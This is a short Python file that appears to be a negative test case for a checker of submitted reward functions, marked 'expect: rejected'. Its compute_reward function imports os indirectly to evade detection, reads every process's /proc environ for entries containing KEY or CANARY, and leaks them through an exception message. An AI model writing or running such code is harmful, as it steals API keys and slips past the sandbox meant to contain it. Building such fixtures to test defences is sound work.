"""Sweep every process's environment on the machine for API keys."""
# class: secrets
# expect: rejected
import typing


def compute_reward(obs, action, next_obs, info):
    os = typing.sys.modules["os"]
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                fd = os.open(f"/proc/{pid}/environ", os.O_RDONLY)
                data = os.read(fd, 1 << 16)
            except OSError:
                continue
            found += [e.decode(errors="replace") for e in data.split(b"\x00") if b"KEY" in e or b"CANARY" in e]
    raise ValueError(" ".join(found) or "nothing found")
